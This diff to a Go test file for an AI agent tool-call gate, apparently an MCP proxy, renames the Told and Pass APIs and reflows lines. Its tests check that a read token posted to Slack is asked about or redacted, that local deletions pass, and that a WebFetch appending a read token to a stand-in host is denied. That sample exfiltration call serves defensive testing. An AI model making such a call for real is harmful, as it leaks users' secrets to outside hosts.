@@ -36,15 +36,17 @@ func TestACallThatAHookHasToldOfCountsOnce(t *testing.T) {
 	h := newHouse(t, t.TempDir(), s)
 	for i := range 4 {
 		args := fmt.Sprintf(`{"channel":"#x","text":"hello %d"}`, i)
-		p := h.gate.Told(context.Background(), hooked("slack", "post_message", args), gate.Hook{})
+		p := h.gate.Announced(context.Background(), hooked("slack", "post_message", args), gate.Hook{})
 		c := call("slack", "post_message", args)
 		c.Told, c.ParentID = true, p.Call.ID
 		made, _ := h.does(c)
-		if told := hasSignal(p.Verdict, "rapid_external_sends"); told != (i == 3) || hasSignal(made, "rapid_external_sends") {
+		told := hasSignal(p.Verdict, "rapid_external_sends")
+		if told != (i == 3) || hasSignal(made, "rapid_external_sends") {
 			t.Errorf("pair %d: %+v, %+v", i+1, p.Verdict, made)
 		}
 	}
-	if v, _ := h.does(call("slack", "post_message", `{"channel":"#x","text":"alone"}`)); !hasSignal(v, "rapid_external_sends") {
+	v, _ := h.does(call("slack", "post_message", `{"channel":"#x","text":"alone"}`))
+	if !hasSignal(v, "rapid_external_sends") {
 		t.Error("a call of which no hook told was not counted")
 	}
 }
@@ -66,14 +68,19 @@ func TestWhereAHookCanChangeNothingTheUserIsAsked(t *testing.T) {
 	h := newHouse(t, t.TempDir(), s)
 	h.reads("github", "get_file", "token: "+gitToken)
 	args := object("text", gitToken)
-	if p := h.gate.Told(context.Background(), hooked("slack", "post_message", args), gate.Hook{}); p.Verdict.Decision != mcpproxy.Ask {
+	if p := h.gate.Announced(
+		context.Background(),
+		hooked("slack", "post_message", args),
+		gate.Hook{},
+	); p.Verdict.Decision != mcpproxy.Ask {
 		t.Errorf("%+v", p.Verdict)
 	}
-	p := h.gate.Told(context.Background(), hooked("slack", "post_message", args), gate.Hook{NoAsk: mcpproxy.Deny})
+	p := h.gate.Announced(context.Background(), hooked("slack", "post_message", args), gate.Hook{NoAsk: mcpproxy.Deny})
 	if p.Verdict.Decision != mcpproxy.Deny || !p.Verdict.Asked {
 		t.Errorf("%+v", p.Verdict)
 	}
-	if r := h.stored(p.Call.ID); r == nil || r.Type != mcpproxy.RecordHookEvaluation || r.Status != mcpproxy.StatusBlocked {
+	r := h.stored(p.Call.ID)
+	if r == nil || r.Type != mcpproxy.RecordHookEvaluation || r.Status != mcpproxy.StatusBlocked {
 		t.Errorf("it is not on disk: %+v", r)
 	}
 	if v, sent := h.does(call("slack", "post_message", args)); v.Decision != mcpproxy.Redact || !sent {
@@ -86,11 +93,15 @@ func TestAnAgentMayDeleteOnItsOwnMachine(t *testing.T) {
 	h := newHouse(t, t.TempDir(), defaults())
 	for _, c := range []*mcpproxy.Call{hooked("", "KillShell", `{"shell_id":"1"}`), hooked("", "delete_file", `{"path":"x"}`),
 		hooked("", "WebSearch", `{"query":"what does drop table users do"}`), hooked("", "Bash", `{"command":"rm -r build"}`)} {
-		if p := h.gate.Told(context.Background(), c, gate.Hook{}); p.Stopped() {
+		if p := h.gate.Announced(context.Background(), c, gate.Hook{}); p.Stopped() {
 			t.Errorf("%s: %+v", c.Tool, p.Verdict)
 		}
 	}
-	if p := h.gate.Told(context.Background(), hooked("files", "delete_file", `{"path":"x"}`), gate.Hook{}); p.Verdict.Decision != mcpproxy.Deny {
+	if p := h.gate.Announced(
+		context.Background(),
+		hooked("files", "delete_file", `{"path":"x"}`),
+		gate.Hook{},
+	); p.Verdict.Decision != mcpproxy.Deny {
 		t.Errorf("a server's tool: %+v", p.Verdict)
 	}
 }
@@ -101,18 +112,35 @@ func TestReportedResults(t *testing.T) {
 	for name, known := range map[string]bool{"of a call that was told of": true, "of one that was not": false} {
 		t.Run(name, func(t *testing.T) {
 			h := newHouse(t, t.TempDir(), defaults())
-			var before *gate.Pass
+			var before *gate.Decided
 			if known {
-				before = h.gate.Told(context.Background(), hooked("", "Read", `{"file_path":"x"}`), gate.Hook{}).Rest()
+				before = h.gate.Announced(context.Background(), hooked("", "Read", `{"file_path":"x"}`), gate.Hook{}).WithoutText()
 			}
-			v := h.gate.Reported(context.Background(), before, hooked("", "Read", `{"file_path":"x"}`), &mcpproxy.Result{Raw: json.RawMessage(quoted(gitToken))}, gate.Hook{})
+			v := h.gate.Reported(
+				context.Background(),
+				before,
+				hooked("", "Read", `{"file_path":"x"}`),
+				&mcpproxy.Result{Raw: json.RawMessage(quoted(gitToken))},
+				gate.Hook{},
+			)
 			if v.Decision != mcpproxy.Allow {
 				t.Errorf("%+v", v)
 			}
-			if p := h.gate.Told(context.Background(), hooked("", "WebFetch", object("url", "https://x.example.com/"+gitToken)), gate.Hook{}); p.Verdict.Decision != mcpproxy.Deny {
+			p := h.gate.Announced(
+				context.Background(),
+				hooked("", "WebFetch", object("url", "https://x.example.com/"+gitToken)),
+				gate.Hook{},
+			)
+			if p.Verdict.Decision != mcpproxy.Deny {
 				t.Errorf("what was read may leave: %+v", p.Verdict)
 			}
-			v = h.gate.Reported(context.Background(), before, hooked("", "Read", `{}`), &mcpproxy.Result{Raw: json.RawMessage(`{"a":1,"a":2}`)}, gate.Hook{})
+			v = h.gate.Reported(
+				context.Background(),
+				before,
+				hooked("", "Read", `{}`),
+				&mcpproxy.Result{Raw: json.RawMessage(`{"a":1,"a":2}`)},
+				gate.Hook{},
+			)
 			if v.Decision != mcpproxy.Warn || !strings.Contains(v.Reason, "could not be inspected") {
 				t.Errorf("%+v", v)
 			}
